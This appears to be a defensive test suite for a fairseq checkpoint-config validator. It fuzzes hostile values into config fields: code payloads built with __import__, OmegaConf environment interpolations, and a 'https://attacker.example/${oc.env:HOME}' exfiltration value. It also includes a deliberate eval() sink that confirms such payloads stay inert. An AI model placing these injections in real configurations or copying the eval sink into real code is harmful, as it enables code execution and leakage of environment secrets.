"""A checkpoint's configuration is validated as data (fairseq_ext/compat/config_schema.py): a property-
based fuzzer builds hostile configurations (interpolations nested and spliced, type confusion,
unknown names, URLs, long texts, code) at any field of ``cfg`` or legacy ``args`` and checks
that each is refused naming the file and the field, and that a payload never runs, even when
the configuration is then resolved by OmegaConf and every text of it passed to ``eval()``.
The issue's reproductions go through fairseq's loader; good configurations still pass."""

import argparse
import copy
import os

import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from omegaconf import OmegaConf

import user_dir  # noqa: F401  (registers the plugin, installs the loader)
from crafted import save
from fairseq_ext.compat.checkpoint import UntrustedCheckpointError, load_checkpoint_to_cpu
from fairseq_ext.compat.config_schema import (
    MAX_TEXT,
    NUMBER_TEXT,
    ConfigRefused,
    conforms,
    text_problem,
    validate_checkpoint_config,
)

SOURCE = "/models/evil.pt"
SENTINEL_VARIABLE = "FAIRSEQ_EXT_TEST_SENTINEL"


def _good_state():
    """The configuration fairseq-train writes for a plugin model (trimmed), and legacy args."""
    return {
        "cfg": {
            "_name": None,
            "common": {"seed": 1, "user_dir": "/work/user_dir", "log_format": "simple", "fp16": False},
            "distributed_training": {"distributed_backend": "gloo", "distributed_init_method": "tcp://localhost:1"},
            "dataset": {"max_tokens": 600, "batch_size": None, "train_subset": "train"},
            "optimization": {"lr": [0.001], "update_freq": [1], "max_update": 1, "clip_norm": 0.0},
            "checkpoint": {"save_dir": "checkpoints/run", "restore_file": "checkpoint_last.pt"},
            "model": argparse.Namespace(_name="bart_summ_tiny", arch="bart_summ_tiny", dropout=0.1,
                                        activation_fn="gelu", encoder_layers=2, share_all_embeddings=True,
                                        adaptive_softmax_cutoff=None, adam_betas=(0.9, 0.999)),
            "task": {"_name": "abstractive_summarization", "data": "data/aclsum/bin", "source_lang": "source",
                     "eval_rouge_args": '{"beam": 1, "max_len_b": 128}'},
            "criterion": {"_name": "label_smoothed_cross_entropy", "label_smoothing": 0.1},
            "optimizer": {"_name": "adam", "adam_betas": [0.9, 0.999], "lr": [0.001]},
            "lr_scheduler": {"_name": "fixed", "lr": [0.001]},
            "bpe": None,
            "tokenizer": None,
        },
        "args": None,
    }


def _legacy_state():
    args = argparse.Namespace(arch="bart_summ_tiny", task="abstractive_summarization", criterion="cross_entropy",
                              optimizer="adam", adam_betas="(0.9, 0.98)", lr=[0.001], dropout=0.1,
                              data="data/bin", max_tokens=600, activation_fn="gelu")
    return {"cfg": None, "args": args}


def _payload_code():
    """Python that touches the sentinel when evaluated (the file named by the environment)."""
    return f"__import__('pathlib').Path(__import__('os').environ['{SENTINEL_VARIABLE}']).touch()"


# ---------------------------------------------------------------- hostile values
_words = st.text(alphabet="abcdefghijklmnopqrstuvwxyz_.0123456789", min_size=1, max_size=12)
_interpolation_body = st.one_of(
    _words, st.just("oc.env:HOME"), st.just("model._name"), st.just("task._name"),
    _words.map(lambda w: f"oc.env:{w.upper()}"), _words.map(lambda w: f"{w}.${{{w}}}"),  # nested
)


@st.composite
def interpolations(draw):
    """``${...}`` anywhere in a text: alone, spliced into free text or into a quoted literal."""
    body = draw(_interpolation_body)
    before, after = draw(st.text(max_size=10)), draw(st.text(max_size=10))
    quote = draw(st.sampled_from(["", "'", '"']))
    return f"{before}{quote}${{{body}}}{quote}{after}"


_urls = st.builds(
    lambda scheme, host, path: f"{scheme}{host}/{path}",
    st.sampled_from(["http://", "https://", "s3://", "hdfs://", "ftp://", "file://", "//", "manifold://"]),
    _words, _words,
)
_code = st.one_of(
    st.just(_payload_code()), st.just("(lambda: 1)()"), st.just("[x for x in ().__class__.__mro__]"),
    st.just("f'{1}'"), _words.map(lambda w: f"{w}()"), _words.map(lambda w: f"().__class__.__{w}__"),
)
_long = st.integers(1, 200).map(lambda n: "a" * (MAX_TEXT + n))
_hostile_text = st.one_of(interpolations(), _urls, _code, _long)

# fields whose declared type is not text: any text there is type confusion
_TYPED = [("cfg", "common", "seed"), ("cfg", "dataset", "max_tokens"), ("cfg", "optimization", "lr"),
          ("cfg", "optimization", "max_update"), ("cfg", "model", "dropout"), ("cfg", "model", "encoder_layers"),
          ("cfg", "model", "share_all_embeddings"), ("cfg", "criterion", "label_smoothing"),
          ("cfg", "common", "fp16"), ("args", None, "dropout"), ("args", None, "lr"), ("args", None, "max_tokens")]
_NAMES = [("cfg", "model", "_name"), ("cfg", "model", "arch"), ("cfg", "task", "_name"),
          ("cfg", "criterion", "_name"), ("cfg", "optimizer", "_name"), ("cfg", "lr_scheduler", "_name"),
          ("args", None, "arch"), ("args", None, "task"), ("args", None, "criterion"), ("args", None, "optimizer")]
_ANY = _TYPED + _NAMES + [("cfg", "task", "data"), ("cfg", "common", "user_dir"), ("cfg", "task", "eval_rouge_args"),
                          ("cfg", "model", "adaptive_softmax_cutoff"), ("cfg", "model", "activation_fn"),
                          ("cfg", "checkpoint", "save_dir"), ("args", None, "adam_betas"), ("args", None, "data"),
                          ("cfg", "distributed_training", "distributed_init_method"), ("cfg", "model", "new_field")]


def _node(state, root, group):
    if root == "args":
        if state["args"] is None:
            state.update(_legacy_state())
        return state["args"]
    return state["cfg"][group]


def _place(state, place, value, nest):
    """``state`` with ``value`` at ``place``, optionally nested in a list or a dict."""
    state = copy.deepcopy(state)
    root, group, field = place
    value = {"inner": value} if nest == "dict" else [value] if nest == "list" else value
    node = _node(state, root, group)
    if isinstance(node, argparse.Namespace):
        setattr(node, field, value)
    else:
        node[field] = value
    return state, f"{root}.{group}.{field}" if group else f"{root}.{field}"


@st.composite
def hostile_configs(draw):
    """(state, dotted field) with one hostile value placed; ``kind`` says which class."""
    kind = draw(st.sampled_from(["text", "type", "name"]))
    if kind == "text":
        place, value = draw(st.sampled_from(_ANY)), draw(_hostile_text)
        nest = draw(st.sampled_from(["", "", "list", "dict"]))
    elif kind == "type":
        place = draw(st.sampled_from(_TYPED))
        value = draw(st.one_of(st.text(min_size=1, max_size=20), st.floats(0.1, 2).map(lambda f: f"{f} --cpu"),
                               st.just("0.1"), st.just("[0.9, 0.98]")))
        if place[:2] == ("cfg", "model") and NUMBER_TEXT.fullmatch(value):
            value += " --cpu"  # a plain number as text is how fairseq writes a legacy cfg.model
        nest = ""
    else:
        place = draw(st.sampled_from(_NAMES))
        value = draw(st.one_of(_words.filter(lambda w: w not in _REGISTERED), st.integers(), st.just("")))
        nest = ""
    state, where = _place(_good_state(), place, value, nest)
    return state, where


def _registered_names():
    from fairseq import registry
    from fairseq.models import ARCH_MODEL_REGISTRY, MODEL_REGISTRY
    from fairseq.tasks import TASK_REGISTRY

    names = set(ARCH_MODEL_REGISTRY) | set(MODEL_REGISTRY) | set(TASK_REGISTRY)
    for entry in registry.REGISTRIES.values():
        names |= set(entry["registry"])
    return names


_REGISTERED = _registered_names()


def _downstream(state, sentinel, monkeypatch):
    """What fairseq could do with an accepted configuration: resolve it with OmegaConf and
    ``eval()`` every text (the worst of its sinks, all at once). A payload touches ``sentinel``."""
    monkeypatch.setenv(SENTINEL_VARIABLE, str(sentinel))
    cfg = {k: vars(v) if isinstance(v, argparse.Namespace) else v for k, v in (state["cfg"] or {}).items()}
    texts = []
    try:
        resolved = OmegaConf.to_container(OmegaConf.create(cfg), resolve=True)
    except Exception:
        resolved = cfg
    stack = [resolved, vars(state["args"]) if state["args"] is not None else {}]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            stack.extend(node.values())
        elif isinstance(node, (list, tuple)):
            stack.extend(node)
        elif isinstance(node, str):
            texts.append(node)
    for text in texts:
        try:
            eval(text, {})  # noqa: S307  (the sink under test)
        except Exception:
            pass


FUZZ = settings(max_examples=300, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(hostile_configs())
def test_fuzzed_hostile_configs_are_refused_naming_file_and_field(case):
    state, where = case
    with pytest.raises(ConfigRefused) as err:
        validate_checkpoint_config(state, SOURCE)
    message = str(err.value)
    assert SOURCE in message and where in message, message


def test_a_payload_never_runs_from_what_the_fuzzer_builds(tmp_path, monkeypatch):
    """Whatever the validator lets through, resolving and evaluating it runs nothing."""
    sentinel = tmp_path / "pwned"

    @FUZZ
    @given(hostile_configs())
    def check(case):
        state, _ = case
        try:
            validate_checkpoint_config(state, SOURCE)
        except ConfigRefused:
            return
        _downstream(state, sentinel, monkeypatch)
        assert not sentinel.exists(), "the payload ran"

    check()
    # the sink is real: the same payload evaluated unchecked does touch the sentinel
    _downstream(_place(_good_state(), ("cfg", "task", "data"), _payload_code(), "")[0], sentinel, monkeypatch)
    assert sentinel.exists()


@pytest.mark.parametrize("state", [_good_state(), _legacy_state()], ids=["cfg", "legacy-args"])
def test_good_configurations_pass(state):
    validate_checkpoint_config(state, SOURCE)


@FUZZ
@given(st.one_of(st.integers(-10, 10), st.floats(allow_nan=False), st.booleans(), st.none(),
                 st.sampled_from(["checkpoints/x", "data-bin/aclsum", "gelu", "en-de", "p2c|c2p", "/abs/path/x.pt",
                                  "(0.9, 0.98)", "{}", "10000,50000", "my model (v2).pt", "a: b"])))
def test_plain_values_pass_where_untyped(value):
    state, _ = _place(_good_state(), ("cfg", "model", "new_field"), value, "")
    validate_checkpoint_config(state, SOURCE)


def test_types_follow_the_registered_dataclass():
    import typing

    assert conforms(3, int) and not conforms("3", int) and not conforms(True, int)
    assert conforms(3, float) and not conforms("0.1 --cpu", float)
    assert conforms([0.1], typing.List[float]) and not conforms("0.1", typing.List[float])
    assert conforms(None, int) and conforms("x", typing.Any)
    assert text_problem("tcp://localhost:1", "cfg.distributed_training.distributed_init_method") is None
    assert text_problem("http://localhost:1", "cfg.distributed_training.distributed_init_method")


def test_a_legacy_namespace_may_hold_a_number_as_plain_text_and_nothing_else():
    """fairseq writes ``--total-num-update 1`` as ``'1'`` in a legacy model's ``cfg.model`` (the
    BART-LS and Z-Code++ recipes' checkpoints): a plain number literal passes there; text that
    is more than a number does not, and a dataclass group keeps its types strict."""
    state = _good_state()
    state["cfg"]["lr_scheduler"] = {"_name": "polynomial_decay", "total_num_update": 1.0}
    state["cfg"]["model"].total_num_update = "1"
    state["cfg"]["model"].dropout = "0.1"
    state["cfg"]["model"].encoder_layers = "-2"
    validate_checkpoint_config(state, "legacy.pt")
    for text in ("1; import os", "1 --cpu", "(1)", "0x10", "1_0", "nan", "[1]", "1e3e3"):
        bad = _good_state()
        bad["cfg"]["model"].dropout = text
        with pytest.raises(ConfigRefused, match="dropout"):
            validate_checkpoint_config(bad, "legacy.pt")
    floating = _good_state()
    floating["cfg"]["model"].encoder_layers = "2.5"  # a number, but not an int
    with pytest.raises(ConfigRefused, match="encoder_layers"):
        validate_checkpoint_config(floating, "legacy.pt")
    strict = _good_state()
    strict["cfg"]["dataset"]["max_tokens"] = "600"
    with pytest.raises(ConfigRefused, match="max_tokens"):
        validate_checkpoint_config(strict, "group.pt")


# ---------------------------------------------------------------- the issue's reproductions
def _fairseq_state(good_state, cfg_changes):
    state = copy.deepcopy(good_state)
    for (group, field), value in cfg_changes.items():
        node = state["cfg"][group]
        setattr(node, field, value) if isinstance(node, argparse.Namespace) else node.__setitem__(field, value)
    return state


def _base():
    """A checkpoint holding :func:`_good_state`'s configuration, as fairseq-train writes one."""
    history = [{"criterion_name": "X", "optimizer_name": "adam", "lr_scheduler_state": {"best": None},
                "num_updates": 0}]
    return {"cfg": copy.deepcopy(_good_state()["cfg"]), "model": {"w": torch.ones(1)}, "args": None,
            "optimizer_history": history, "extra_state": {"train_iterator": {"epoch": 1}}}


def _reproductions(sentinel):
    quoted = f"'${{task._name}}' + str({_payload_code()}) + '"
    return {
        "model-name-interpolation": {("model", "_name"): "${task.fconv_arch}", ("task", "fconv_arch"): "fconv",
                                     ("model", "decoder_layers"): _payload_code()},
        "spliced-into-a-literal": {("model", "adaptive_softmax_cutoff"): quoted},
        "env-to-url": {("task", "data"): "https://attacker.example/${oc.env:HOME}"},
        "string-in-a-float": {("model", "dropout"): "0.1 --adaptive-softmax-cutoff 1"},
        "unknown-model": {("model", "_name"): "not_a_model"},
    }


@pytest.mark.parametrize("case", list(_reproductions(None)))
def test_the_issue_reproductions_are_refused_by_fairseq_loader(case, tmp_path, monkeypatch):
    from fairseq import checkpoint_utils

    monkeypatch.setenv(SENTINEL_VARIABLE, str(tmp_path / "pwned"))
    base = _base()
    path = save(_fairseq_state(base, _reproductions(tmp_path / "pwned")[case]), tmp_path / "evil.pt")
    with pytest.raises(UntrustedCheckpointError) as err:
        checkpoint_utils.load_checkpoint_to_cpu(str(path))
    assert str(path) in str(err.value)
    assert not (tmp_path / "pwned").exists()


def test_overrides_are_checked_too(tmp_path):
    path = save(_base(), tmp_path / "good.pt")
    load_checkpoint_to_cpu(str(path), arg_overrides={"data": "data/bin"})
    with pytest.raises(UntrustedCheckpointError, match=r"arg_overrides\.data"):
        load_checkpoint_to_cpu(str(path), arg_overrides={"data": "${oc.env:HOME}"})


def test_the_validator_runs_on_the_loading_funnel():
    from fairseq import checkpoint_utils

    assert checkpoint_utils.load_checkpoint_to_cpu.__wrapped__ is load_checkpoint_to_cpu
    assert os.environ.get(SENTINEL_VARIABLE) is None
